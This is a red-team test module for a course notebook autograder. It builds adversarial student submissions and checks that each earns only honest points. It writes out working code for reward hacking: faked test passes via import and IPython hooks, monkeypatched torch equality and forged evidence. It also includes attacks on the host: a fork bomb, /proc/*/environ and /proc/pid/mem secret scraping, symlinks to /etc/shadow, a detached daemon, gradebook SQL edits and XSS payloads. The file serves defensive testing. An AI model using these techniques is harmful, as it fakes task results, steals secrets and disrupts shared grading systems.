"""Red-team submissions: what a determined student could hand in to get points the work does not earn.

Each ``Attack`` builds a notebook from the release (with ``demo/examples.py``' helpers), names the
autograded tests it earns honestly (every other autograded test must score 0) and the status it must
get. ``tests/end_to_end/test_red_team.py`` grades ``ATTACKS`` in one sandboxed run and ``UNSANDBOXED`` in a second
run without the sandbox. Builders take ``probe``, a folder outside the grading output that the test
prepares (a victim file, a classmate's evidence) and inspects after.

The kernel is the student's: it can patch anything in it and write any evidence file. What it cannot
do is change how the grader, in its own process, reads that evidence and checks it against its own
checkpoint and test data, so every attack below must end with exactly the points of its real work.
"""
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from demo import examples
from ece662.grading import registry

PART1 = frozenset(t.grade_id for t in registry.TESTS if t.part == "part1")
PART2 = frozenset(t.grade_id for t in registry.TESTS if t.part == "part2")
PARTS_1_2 = PART1 | PART2  # what the attacks whose point is not Part 4 do right (Part 4 left as handed out)
VICTIM = "victim.txt"  # in probe: a file of the grader's that a symlink in the kernel's folder points at
CLASSMATE = "classmate-evidence"  # in probe: a correct evidence folder, as another student's would be
HEARTBEAT = "heartbeat"  # in probe: where a detached process of the kernel writes, if it can and while it lives
FAKE_TOKEN = "ece662-fake-token-5f0c2a9e"  # exported before grading, as the README's feedback step has instructors do


@dataclass(frozen=True)
class Attack:
    name: str
    build: Callable[[Path], object]  # probe folder -> notebook
    earns: frozenset  # the autograded tests it earns honestly
    what: str
    status: str = "graded"

    def expected_scores(self) -> dict:
        return {t.grade_id: float(t.points) if t.grade_id in self.earns else 0.0 for t in registry.TESTS}


def _sweep(function: str) -> str:
    """Part 1: ``function`` plus the sweep, recording what test_model really returns."""
    return function + examples.P1_SWEEP


P2_FUNCTION = examples.P2_CORRECT.split("structured_results")[0]

# ------------------------------------------------------------------ Part 1 implementations

NOOP = _sweep('''
def prune_unstructured_to(model, target):
    pass  # prunes nothing; the accuracies recorded are honest
''')

ONE_WEIGHT = _sweep('''
def prune_unstructured_to(model, target):
    params = [(layer, 'weight') for _, layer in prunable_layers(model)]
    prune.global_unstructured(params, pruning_method=prune.L1Unstructured, amount=1)  # one weight per call
''')

ZERO_EVERYTHING = _sweep('''
def prune_unstructured_to(model, target):
    with torch.no_grad():  # "the zeroed weights are the smallest": every weight is zeroed
        for _, layer in prunable_layers(model):
            layer.weight.zero_()
''')

NOOP_FAKE_RESULTS = '''
def prune_unstructured_to(model, target):
    pass

unstructured_results = {level: 0.9 for level in sparsity_levels}
'''

# Correct pruning, made-up accuracies, and every store of measurements the kernel can find rewritten to agree
# with them: the grader's store is a folder of the grading output that no sandboxed kernel sees, and without a
# sandbox there is none (each verifier measures for itself).
POISONED_MEASUREMENTS = examples.P1_CORRECT.split("unstructured_results")[0] + '''
import os, pathlib
unstructured_results = {}
for level in sparsity_levels:
    prune_unstructured_to(model, level)
    unstructured_results[level] = 0.9
for top in {pathlib.Path.cwd().parent.parent, pathlib.Path("/tmp"), pathlib.Path.home()}:
    for folder in list(top.glob("*/measurements/*"))[:20] + list(top.glob("*/*/measurements/*"))[:20]:
        try:
            for entry in list(folder.iterdir())[:500]:
                if not entry.name.endswith((".safetensors", ".lock")):
                    entry.write_text("0.9")
        except OSError:
            pass
'''

# Walks up to the grader's trace() in the kernel and empties its list of completed levels.
FRAME_WALKER = '''
import sys

def prune_unstructured_to(model, target):
    frame = sys._getframe(1)
    while frame is not None and 'done' not in frame.f_locals:
        frame = frame.f_back
    if frame is not None:
        frame.f_locals['done'].clear()  # "no level completed, no error"

unstructured_results = {level: 0.9 for level in sparsity_levels}
'''

# ------------------------------------------------------------------ Part 2 and Part 4

# Correct filter pruning; the recorded accuracies are objects that claim 0.99 and equal anything.
P2_LYING_RESULTS = P2_FUNCTION + '''
class Accuracy(float):
    def __float__(self): return 0.99
    def __eq__(self, other): return True
    def __le__(self, other): return True
    def __ge__(self, other): return True
    __hash__ = float.__hash__

structured_results = {}
for level in structured_levels:
    fresh = load_model(path, mode=mode)
    prune_filters(fresh, level)
    structured_results[level] = Accuracy(0.5)
'''

# Part 4 faked from the one-shot model, no training at all: 1e-5 relative noise on every weight and the last
# layer scaled by a "temperature", so that most weights moved, stay correlated and the loss changed.
P4_NOISE_NOT_TRAINED = '''
def fake_training(m):
    with torch.no_grad():
        for p in m.parameters():
            p.add_(p * 1e-5 * torch.randn_like(p))
        list(m.classifier)[-1].weight.mul_(1.3)
    return m

finetuned_model = fake_training(clone_model(one_shot_model))
gradual_model = fake_training(clone_model(one_shot_model))
part4_results = {'after_training': test_model(finetuned_model, test_data, mode=mode),
                 'during_training': test_model(gradual_model, test_data, mode=mode)}
'''

# Part 4's fine-tuning trains only the last layer, on 8 batches; the gradual run is honest.
P4_LAST_LAYER_ONLY = examples.mutate(examples.P4_CORRECT, 
    "finetuned_model = clone_model(one_shot_model)\nfinetune(finetuned_model, part4_epochs)\n",
    '''finetuned_model = clone_model(one_shot_model)
for p in finetuned_model.parameters():
    p.requires_grad_(False)
last = list(finetuned_model.classifier)[-1]
for p in last.parameters():
    p.requires_grad_(True)
train_epoch(finetuned_model, torch.optim.SGD(last.parameters(), lr=part4_lr, momentum=part4_momentum),
            X_part4[:1024], y_part4[:1024], seed=0)
''')

# One run passed off as two: the "gradual" model is a copy of the fine-tuned one.
P4_ONE_RUN_AS_TWO = examples.mutate(examples.P4_CORRECT, 
    "gradual_model = load_model(path, mode=mode)\ntrain_with_gradual_pruning(gradual_model, part4_epochs, part4_target)\n",
    "gradual_model = clone_model(finetuned_model)\n")

# "Gradual" pruning done as dense training with the recipe, then one prune after it.
P4_DENSE_THEN_PRUNE = examples.mutate(examples.P4_CORRECT, 
    "train_with_gradual_pruning(gradual_model, part4_epochs, part4_target)\n",
    "finetune(gradual_model, part4_epochs)\nprune_unstructured_to(gradual_model, part4_target)\n")

# Part 1's `model` halved before its test: the same zeros, other values.
HALVE_MODEL = '''
with torch.no_grad():
    for p in model.parameters():
        p.mul_(0.5)
'''

# Part 2: the right filters zeroed, every kept filter multiplied by -3 (accuracy below chance).
P2_KEPT_SCALED = P2_FUNCTION + '''
zero_filters = prune_filters

def prune_filters(model, level):
    zero_filters(model, level)
    with torch.no_grad():
        for _, layer in prunable_layers(model):
            if isinstance(layer, nn.Conv2d):
                layer.weight_orig.mul_(-3)
                layer.bias_orig.mul_(-3)
''' + examples.P2_SWEEP

# ------------------------------------------------------------------ cells inserted into the notebook

# Written before the setup cell: an `ece662/` package in the kernel's working folder shadows the installed
# one; its `grading` claims a pass for Part 1 and hands the other tests to the real module.
FAKE_PACKAGE_IN_CWD = '''
import importlib.util, os, pathlib
real = pathlib.Path(importlib.util.find_spec('ece662').origin).parent
os.makedirs('ece662/grading', exist_ok=True)
pathlib.Path('ece662/__init__.py').write_text(f'__path__.append({str(real)!r})\\n')
pathlib.Path('ece662/grading/__init__.py').write_text(
    f'__path__.append({str(real / "grading")!r})\\n'
    'from .cells import run_test as real_run_test\\n'
    'def run_test(grade_id, namespace):\\n'
    '    print("Test passed.") if grade_id.startswith("test_part1") else real_run_test(grade_id, namespace)\\n')
'''

IMPORT_HOOKS = '''
import importlib, importlib.abc, importlib.util, sys, types
import ece662.grading.cells as real_tests
real_record = real_tests.record
real_tests.record = lambda test, ns: None if test.part == 'part1' else real_record(test, ns)

fake = types.ModuleType('ece662.grading')
fake.run_test = lambda grade_id, ns: (print('Test passed.') if grade_id.startswith('test_part1')
                                      else real_tests.run_test(grade_id, ns))

class FakeTests(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        return importlib.util.spec_from_loader(name, self) if name == 'ece662.grading' else None
    def create_module(self, spec): return fake
    def exec_module(self, module): pass

sys.meta_path.insert(0, FakeTests())
sys.modules.pop('ece662.grading', None)
importlib.reload = lambda module: fake
importlib.import_module = lambda name, package=None: fake
'''

IPYTHON_HOOKS = '''
import os, sys
ip = get_ipython()
ip.input_transformers_cleanup.append(
    lambda lines: ["print('Test passed.')\\n"] if any('test_part1' in l for l in lines) else lines)
for name in ('run_cell', 'run_cell_async'):
    original = getattr(ip, name)
    def clear_errors(*args, _original=original, **kwargs):
        result = _original(*args, **kwargs)
        if hasattr(result, 'error_in_exec'):
            result.error_in_exec = None
        return result
    setattr(ip, name, clear_errors)
ip.set_custom_exc((AssertionError,), lambda shell, etype, value, tb, tb_offset=None: print('Test passed.'))
ip.events.register('pre_run_cell', lambda info: print('HOOK saw:', (info.raw_cell or '')[:200]))
sys.settrace(lambda frame, event, arg: None)
print('Test passed.\\nAll tests passed: 25 / 25 points')
from IPython.display import HTML, Javascript, display
display(HTML('<img src=x onerror="document.title = 1">'), Javascript('document.title = "owned"'))
for _ in range(64):  # 64 MiB of output for the grader to hold, save and render
    sys.stdout.write('x' * 2**20)
'''

LYING_TORCH = '''
import builtins, torch
saved = (torch.equal, torch.Tensor.__eq__, torch.Tensor.all, builtins.abs, builtins.sum)
torch.equal = lambda a, b: True
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
torch.Tensor.all = lambda self, *args, **kwargs: torch.tensor(True)
builtins.abs = lambda x: 0.0
builtins.sum = lambda values, start=0: 0.0
'''
RESTORE_TORCH = "torch.equal, torch.Tensor.__eq__, torch.Tensor.all, builtins.abs, builtins.sum = saved\n"

ENV_REDIRECT = '''
import os
saved_env = {k: os.environ.get(k) for k in ('ECE662_MODEL_DIR', 'CINIC10_DIR', 'ECE662_EVIDENCE_DIR')}
os.makedirs('decoy/models', exist_ok=True)
half = load_model(path, mode=mode)
with torch.no_grad():
    for p in half.parameters():
        p.mul_(0.5)
save_model(half, 'decoy/models/torch.model', mode=mode)
os.environ.update(ECE662_MODEL_DIR=os.path.abspath('decoy/models'), CINIC10_DIR=os.path.abspath('decoy/data'),
                  ECE662_EVIDENCE_DIR=os.path.abspath('decoy/evidence'))
'''
RESTORE_ENV = "os.environ.update({k: v for k, v in saved_env.items() if v})\n"

# Before the Part 1 tests: evidence written by hand (correct one-shot pruned copies of the course model,
# invented accuracies), marked as recorded so the test cells write nothing over it.
FORGED_EVIDENCE = '''
from ece662.grading import cells, evidence, registry

def pruned_copy(level):
    m = load_model(path, mode=mode)
    prune.global_unstructured([(l, 'weight') for _, l in prunable_layers(m)],
                              pruning_method=prune.L1Unstructured, amount=level)
    return cells.canonical_state(m)

folder = evidence.evidence_dir()
evidence.write_trace(folder, registry.PART1_TRACE, [pruned_copy(l) for l in sparsity_levels], sparsity_levels,
                     '', 'torch')
evidence.write_model(folder, registry.PART1_MODEL, pruned_copy(0.8), 'torch')
evidence.write_results(folder, registry.PART1_RESULTS, {level: 0.99 for level in sparsity_levels})
cells._recorded.update({'part1_trace', 'part1_model', 'part1_results'})
'''

# After the Part 1 tests recorded: their evidence files become things a careless reader would choke on.
SPECIAL_FILES = '''
import os
from ece662.grading.evidence import evidence_dir
folder = evidence_dir()
os.remove(folder / 'part1_model.safetensors')
os.mkfifo(folder / 'part1_model.safetensors')
os.remove(folder / 'part1_results.json')
os.symlink('/dev/zero', folder / 'part1_results.json')
os.remove(folder / 'part1_trace.safetensors')
try:
    with open(folder / 'part1_trace.safetensors', 'wb') as f:
        f.truncate(8 * 2**30)  # 8 GiB, sparse: no disk used (the sandbox's file-size cap may refuse it)
except OSError:
    pass
'''

MALFORMED_FILES = '''
import json
from ece662.grading.evidence import evidence_dir
folder = evidence_dir()

def rewrite_header(name, change):
    data = (folder / name).read_bytes()
    size = int.from_bytes(data[:8], 'little')
    header = json.loads(data[8:8 + size])
    change(header)
    text = json.dumps(header).encode()
    (folder / name).write_bytes(len(text).to_bytes(8, 'little') + text + data[8 + size:])

rewrite_header('part1_model.safetensors', lambda h: h['features.0.weight'].update(shape=None))
rewrite_header('part1_trace.safetensors', lambda h: h['__metadata__'].update(levels='[' + '9' * 400 + ']'))
(folder / 'part1_results.json').write_text(
    '{"format": "ece662-evidence", "version": "1", "kind": "results", "source": "unstructured_results", '
    '"items": ' + '[' * 30000 + ']' * 30000 + '}')
'''

EVIDENCE_DIR_LINK = '''
import os, shutil
from ece662.grading.evidence import evidence_dir
shutil.rmtree(evidence_dir())
os.symlink({classmate!r}, evidence_dir())  # a classmate's correct evidence
'''

# nbgrader writes the graded notebook into the kernel's folder after the kernel has gone.
GRADED_NOTEBOOK_LINK = '''
import os
if os.path.lexists('pruning.ipynb'):
    os.remove('pruning.ipynb')
os.symlink({victim!r}, 'pruning.ipynb')
'''

# A double-forked, detached process that outlives the kernel and keeps writing a heartbeat beside the grading output
# (a folder the sandbox does not let it write) and into the evidence folder.
DAEMON = '''
import os, time
from ece662.grading.evidence import evidence_dir
kernel, heartbeats = os.getpid(), [{heartbeat!r}, str(evidence_dir() / 'heartbeat')]
def beat(value):
    for heartbeat in heartbeats:
        try:
            with open(heartbeat, 'w') as f:
                f.write(str(value))
        except OSError:
            pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        beat('alive')  # proof it ran, however soon the grader kills it
        while os.path.exists(f'/proc/{{kernel}}'):
            time.sleep(0.01)
        for n in range(30000):  # about 10 minutes after the kernel died
            beat(n)
            time.sleep(0.02)
    os._exit(0)
'''

# Unsandboxed only: the kernel can open the worker's own gradebook and write scores into it.
GRADEBOOK_EDIT = '''
import glob, sqlite3
for db in glob.glob('../../../gradebook.db'):
    con = sqlite3.connect(db)
    con.execute('UPDATE grade SET manual_score = 100, auto_score = 100')
    con.execute('UPDATE grade_cells SET max_score = 100')
    con.commit()
    print('gradebook edited:', db)
'''


# The last cell of a notebook with correct work: what the kernel leaves in its folder for trusted code to trip
# over. Links one folder down to a system file, the source notebook, a file of the grader's and /dev/zero; a FIFO;
# 200,000 empty files; a 1,500-level folder tree; 3 x 512 MiB of data.
KERNEL_LEFTOVERS = '''
import os
home = os.getcwd()
targets = {{'shadow': '/etc/shadow', 'source': {source!r}, 'classmate': {classmate!r}, 'zero': '/dev/zero', 'root': '/'}}
for folder in ('nest', 'nest/deeper', 'evidence'):
    os.makedirs(folder, exist_ok=True)
    for name, target in targets.items():
        try:
            os.symlink(target, f'{{folder}}/{{name}}')
        except OSError:
            pass
try:
    os.mkfifo('nest/fifo')
except OSError:
    pass
made = 0
try:
    for i in range(200_000):
        open(f'nest/f{{i}}', 'w').close()
        made += 1
except OSError:
    pass
depth = 0
try:
    os.mkdir('tree')
    os.chdir('tree')
    for depth in range(1500):
        os.mkdir('d')
        os.chdir('d')
except OSError:
    pass
os.chdir(home)
written = 0
for i in range(3):
    try:
        with open(f'big{{i}}', 'wb') as f:
            for _ in range(512):
                f.write(b'x' * 2**20)
                written += 1
    except OSError:
        pass
print('left behind:', made, 'files,', depth, 'levels,', written, 'MiB')
'''

# The last cell of a notebook with correct work: look for a token exported in the grader's environment wherever a
# kernel might read it (every /proc/*/environ, its own environment, the memory holding the environment of each
# process that started it), then start 1,000 processes at once. Only the token is looked for: nothing else read is
# kept or printed.
CLOSED_BOX_PROBE = '''
import glob, os, subprocess, sys
marker, found, places = {head!r} + {tail!r}, [], 0  # the token, never whole in the notebook's own source
def look(where, data):
    global places
    places += 1
    found.extend(f'{{where}}: {{pair}}' for pair in data.split('\\0') if marker in pair)
look('own environment', '\\0'.join(f'{{k}}={{v}}' for k, v in os.environ.items()))
for path in glob.glob('/proc/[0-9]*/environ'):
    try:
        look(path, open(path, 'rb').read().decode('latin-1'))
    except OSError:
        pass
pid = os.getppid()
while pid > 1:  # each process above this one: its environment, read from its memory
    try:
        fields = open(f'/proc/{{pid}}/stat').read().rsplit(')', 1)[1].split()
        with open(f'/proc/{{pid}}/mem', 'rb') as mem:
            mem.seek(int(fields[47]))
            look(f'/proc/{{pid}}/mem', mem.read(int(fields[48]) - int(fields[47])).decode('latin-1'))
        pid = int(fields[1])
    except (OSError, ValueError, IndexError):
        break
print('places probed:', places, 'token found:', found)
FORK = """
import os, signal, time
kids = []
try:
    for _ in range(1000):
        pid = os.fork()
        if pid == 0:
            time.sleep(120)
            os._exit(0)
        kids.append(pid)
except OSError:
    pass
print(len(kids))
for kid in kids:
    os.kill(kid, signal.SIGKILL)
    os.waitpid(kid, 0)
"""
print('processes started at once:', subprocess.run([sys.executable, '-c', FORK], capture_output=True, text=True,
                                                   timeout=300).stdout.strip())
'''

# Right after the setup cell: memory the address-space limit does not count. A child process makes a user and mount
# namespace of its own and fills a tmpfs mounted there; then the kernel fills a memfd. Each route holds up to
# ``mib`` MiB (beyond the kernel's memory cap: its cgroup must stop it, the rest of the notebook then runs).
MEMORY_GRAB = '''
import ctypes, os, subprocess, sys
TMPFS = """
import ctypes, os
libc, uid, gid = ctypes.CDLL(None, use_errno=True), os.getuid(), os.getgid()
if libc.unshare(0x10000000 | 0x00020000) != 0:
    raise SystemExit("no namespaces of its own: " + os.strerror(ctypes.get_errno()))
for name, text in (("setgroups", "deny"), ("uid_map", f"0 {{uid}} 1"), ("gid_map", f"0 {{gid}} 1")):
    open(f"/proc/self/{{name}}", "w").write(text)
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=90%") != 0:
    raise SystemExit("no tmpfs of its own: " + os.strerror(ctypes.get_errno()))
for mib in range({mib}):  # files of 256 MiB: each file's size is capped
    with open(f"/tmp/grab{{mib // 256}}", "ab") as f:
        f.write(b"x" * 2**20)
print("held in a tmpfs of its own")
"""
print(subprocess.run([sys.executable, '-c', TMPFS], capture_output=True, text=True).stdout)
grabs, held = [], 0
try:
    for mib in range({mib}):
        if mib % 256 == 0:
            grabs.append(os.memfd_create('grab'))
        os.write(grabs[-1], b'x' * 2**20)
        held += 1
except OSError:
    pass
print('MiB held in memfds:', held)
'''


def closed_box(grab_mib: int = 0):
    """Parts 1 and 2 correct, probed for the grader's secrets, with a 1,000-process fork, and (``grab_mib``) a
    memory grab."""
    nb = _last(_notebook(examples.P1_CORRECT, examples.P2_CORRECT),
               CLOSED_BOX_PROBE.format(head=FAKE_TOKEN[:10], tail=FAKE_TOKEN[10:]))
    return _after(nb, "setup", MEMORY_GRAB.format(mib=grab_mib)) if grab_mib else nb


# Student HTML where staff and students read it: a markdown answer, an added markdown cell with an attachment, a raw
# cell, outputs (HTML, JavaScript, SVG, markdown, an image whose data and metadata break out of their attribute),
# an error message, cell tags and the notebook's title. Each payload would mark the page it runs in.
def mark(where: str) -> str:
    """JavaScript that marks the page it runs in (the browser test looks for the mark)."""
    return f"document.body.setAttribute('data-owned', '{where}')"


HTML_PAYLOAD = (f"<script>{mark('script')}; document.title = 'OWNED'</script>"
                f'<img src=x onerror="{mark("img")}"> [click](javascript:{mark("link")}) '
                f'<svg onload="{mark("svg")}"></svg><iframe src="javascript:{mark("iframe")}"></iframe>'
                "<style>body { display: none }</style> $\\href{javascript:alert(1)}{math}$")
PNG_BREAKOUT = 'x" onerror="' + mark("png")
SVG_ONLOAD = '<svg xmlns="http://www.w3.org/2000/svg" onload="' + mark("svg") + '"/>'
HTML_OUTPUTS = "\n".join([
    "from IPython.display import HTML, Javascript, Markdown, SVG, display",
    f"payload = {HTML_PAYLOAD!r}",
    f"display(HTML(payload), Javascript({mark('js')!r}), Markdown(payload), SVG({SVG_ONLOAD!r}))",
    "display({'image/png': %r}, raw=True)" % PNG_BREAKOUT,
    "display({'image/png': 'iVBORw0KGgo='}, raw=True, metadata={'image/png': {'width': %r}})"
    % ("1 onerror=" + mark("width")),
])
HTML_ERROR = f"raise ValueError({HTML_PAYLOAD!r})"


def _html_payloads(nb):
    """Correct work, and payloads in every place of the notebook a student controls."""
    cells = {c.get("id"): c for c in nb.cells}
    cells["q1_answer"].source = HTML_PAYLOAD
    cells["q2_answer"].source = "An answer with an attachment ![x](attachment:a.png)"
    cells["q2_answer"]["attachments"] = {"a.png": {"image/png": f'x" onerror="{mark("attachment")}'}}
    cells["q2_answer"].metadata["tags"] = [f'x" onmouseover="{mark("tag")}']
    nb.metadata["title"] = f"</title><script>{mark('title')}</script>"
    _last(nb, HTML_OUTPUTS, HTML_ERROR)
    nb.cells.append(nbformat.v4.new_markdown_cell(HTML_PAYLOAD))
    nb.cells.append(nbformat.v4.new_raw_cell(f"<script>{mark('raw')}</script>", metadata={"format": "text/html"}))
    return nb


# ------------------------------------------------------------------ notebooks

def _notebook(part1: str | None, part2: str | None = examples.P2_CORRECT, part4: str | None = None):
    """The release with Parts 1, 2 and 4 filled in (None: the released stub, which raises); Part 5 left undone."""
    return examples.fill(examples.release_notebook(), part1, part2, part4, part5=None, keep=None)


def _tamper_cell_flags(nb):
    """A test cell handed in as a solution cell printing a pass, and a solution cell claiming 100 points."""
    cells = {c.get("id"): c for c in nb.cells}
    cells["test_part1_weights_only"].metadata.nbgrader.update(grade=False, locked=False, solution=True)
    cells["test_part1_weights_only"].source = "print('Test passed.')"
    cells["part1_code"].metadata.nbgrader.update(grade=True, points=100)
    return nb


def _after(nb, cell_id: str, *codes: str):
    for code in reversed(codes):
        examples.insert_after(nb, cell_id, code)
    return nb


def _around_part1_tests(nb, before: str, after: str):
    """``before`` runs just before the Part 1 test cells, ``after`` just after them (Part 2 is left intact)."""
    return _after(_after(nb, "test_part1_accuracies", after), "part1_code", before)


def _last(nb, *codes: str):
    for code in codes:
        examples.insert_after(nb, nb.cells[-1].get("id"), code)
    return nb


def _import_hooks(probe):
    nb = _around_part1_tests(_notebook(NOOP_FAKE_RESULTS), ENV_REDIRECT + IMPORT_HOOKS, RESTORE_ENV)
    return _after(nb, "setup_md", FAKE_PACKAGE_IN_CWD)


def _links(probe):
    return _last(_notebook(NOOP_FAKE_RESULTS), GRADED_NOTEBOOK_LINK.format(victim=str(probe / VICTIM)),
                 EVIDENCE_DIR_LINK.format(classmate=str(probe / CLASSMATE)))


ATTACKS = [
    Attack("noop_pruner", lambda probe: _notebook(NOOP), PART2,
           "Part 1 prunes nothing; its accuracies are honest"),
    Attack("one_weight_pruner", lambda probe: _notebook(ONE_WEIGHT, P2_LYING_RESULTS),
           PART2 - {"test_part2_accuracies"},
           "Part 1 prunes one weight per call; Part 2's accuracies are objects lying in __float__ and __eq__"),
    Attack("zero_everything_pruner", lambda probe: _notebook(ZERO_EVERYTHING), PART2,
           "Part 1 zeroes every weight, so 'the zeroed weights are the smallest' holds vacuously"),
    Attack("part4_noise_not_trained", lambda probe: _notebook(examples.P1_CORRECT, examples.P2_CORRECT,
                                                              P4_NOISE_NOT_TRAINED), PART1 | PART2,
           "Part 4 not trained: 1e-5 relative noise and a last-layer temperature on the one-shot model"),
    Attack("part4_last_layer_only", lambda probe: _notebook(examples.P1_CORRECT, examples.P2_CORRECT,
                                                            P4_LAST_LAYER_ONLY), PART1 | PART2 | {"test_part4_gradual"},
           "Part 4's fine-tuning trains only the last layer, on 8 batches"),
    Attack("part4_one_run_as_two", lambda probe: _notebook(examples.P1_CORRECT, examples.P2_CORRECT,
                                                           P4_ONE_RUN_AS_TWO), PART1 | PART2 | {"test_part4_finetuned"},
           "the gradual model is a copy of the fine-tuned one"),
    Attack("part4_dense_then_prune", lambda probe: _notebook(examples.P1_CORRECT, examples.P2_CORRECT,
                                                             P4_DENSE_THEN_PRUNE), PART1 | PART2 | {"test_part4_finetuned"},
           "'gradual' pruning done as three epochs of dense training, then one prune"),
    Attack("part1_model_halved", lambda probe: _after(_notebook(examples.P1_CORRECT, examples.P2_CORRECT),
                                                      "part1_code", HALVE_MODEL),
           PARTS_1_2 - {"test_part1_final_model"}, "Part 1's `model` halved before its test: the same zeros, other values"),
    Attack("part2_kept_scaled", lambda probe: _notebook(examples.P1_CORRECT, P2_KEPT_SCALED),
           PART1 | {"test_part2_filters"},
           "Part 2 zeroes the right filters and multiplies every kept one by -3"),
    Attack("kernel_leftovers", lambda probe: _last(
        _notebook(examples.P1_CORRECT, examples.P2_CORRECT),
        KERNEL_LEFTOVERS.format(source=str(examples.REPO / "assignment" / "pruning" / "pruning.ipynb"),
                                classmate=str(probe / VICTIM))), PARTS_1_2,
           "Parts 1 and 2 correct; the kernel's folder left with nested links to system, source and classmate files and to "
           "/dev/zero, a FIFO, 200,000 files, a 1,500-level tree and 3 x 512 MiB"),
    Attack("html_payloads", lambda probe: _html_payloads(_notebook(examples.P1_CORRECT, examples.P2_CORRECT)),
           PARTS_1_2, "Parts 1 and 2 correct; scripts, event handlers and javascript: links in answers, cells, outputs, metadata"),
    Attack("import_hooks", _import_hooks, PART2,
           "an ece662/ package in the kernel's folder, a meta_path finder, importlib.reload/import_module and "
           "cells.record patched, the model, data and evidence folders redirected through os.environ"),
    Attack("ipython_hooks", lambda probe: _after(_notebook(NOOP_FAKE_RESULTS), "part1_code", IPYTHON_HOOKS), PART2,
           "input transformer, run_cell wrapper, set_custom_exc, settrace, pre_run_cell hook, printed passes, "
           "HTML/JavaScript outputs, 64 MiB of printed output"),
    Attack("lying_torch_and_frames", lambda probe: _around_part1_tests(_notebook(FRAME_WALKER), LYING_TORCH,
                                                                       RESTORE_TORCH), PART2,
           "torch.equal, Tensor.__eq__, Tensor.all, builtins.abs/sum patched; the pruner walks frames into trace()"),
    Attack("poisoned_measurements", lambda probe: _notebook(POISONED_MEASUREMENTS),
           (PART1 | PART2) - {"test_part1_accuracies"},
           "correct pruning, accuracies made up, and the grader's shared store of measurements rewritten to agree"),
    Attack("cell_flags", lambda probe: _tamper_cell_flags(_notebook(NOOP_FAKE_RESULTS)), PART2,
           "a test cell's nbgrader flags turned into a solution cell's, a solution cell made a 100-point test"),
    Attack("forged_evidence", lambda probe: _after(_notebook(NOOP_FAKE_RESULTS), "part1_code", FORGED_EVIDENCE),
           PART2 | {"test_part1_cumulative", "test_part1_global", "test_part1_weights_only", "test_part1_final_model"},
           "evidence written by hand: a forger earns what its forged outcome shows (it had to prune correctly to "
           "forge it), never accuracies it did not measure"),
    Attack("evidence_special_files", lambda probe: _after(_notebook(examples.P1_CORRECT), "test_part1_accuracies",
                                                          SPECIAL_FILES), PART2,
           "Part 1's evidence replaced by a sparse 8 GiB file, a FIFO and a symlink to /dev/zero"),
    Attack("evidence_malformed", lambda probe: _after(_notebook(examples.P1_CORRECT), "test_part1_accuracies",
                                                      MALFORMED_FILES), PART2,
           "Part 1's evidence with a null shape, a 400-digit level and 30000-deep JSON nesting"),
    Attack("links", _links, frozenset(),
           "the graded notebook's path made a symlink to a grader file; the evidence folder a symlink to a "
           "classmate's correct evidence"),
    Attack("detached_daemon", lambda probe: _last(_notebook(NOOP_FAKE_RESULTS),
                                                  DAEMON.format(heartbeat=str(probe / HEARTBEAT))), PART2,
           "a double-forked process keeps writing into the evidence folder after the kernel died"),
    Attack("closed_box", lambda probe: closed_box(), PARTS_1_2,
           "Parts 1 and 2 correct; looks for a token of the grader's in /proc/*/environ, its environment and the memory of "
           "the processes that started it, and starts 1,000 processes at once"),
]

# Graded once more without a sandbox, where the process sweep and the tamper guard are the defences.
UNSANDBOXED = [a for a in ATTACKS if a.name in ("links", "detached_daemon", "poisoned_measurements",
                                               "kernel_leftovers", "html_payloads", "closed_box")] + [
    Attack("gradebook_edit", lambda probe: _last(_notebook(NOOP_FAKE_RESULTS), GRADEBOOK_EDIT), PART2,
           "unsandboxed: the kernel writes scores into the worker's gradebook")]


def memory_grab(mib: int) -> Attack:
    """Correct work after a grab of ``mib`` MiB through a tmpfs of its own and a memfd (only where a cgroup caps the
    kernel's memory below ``mib``: elsewhere it would really take that memory)."""
    return Attack("memory_grab", lambda probe: closed_box(mib), PARTS_1_2,
                  f"Parts 1 and 2 correct after {mib} MiB grabbed in a tmpfs of its own and in a memfd", "memory limit")

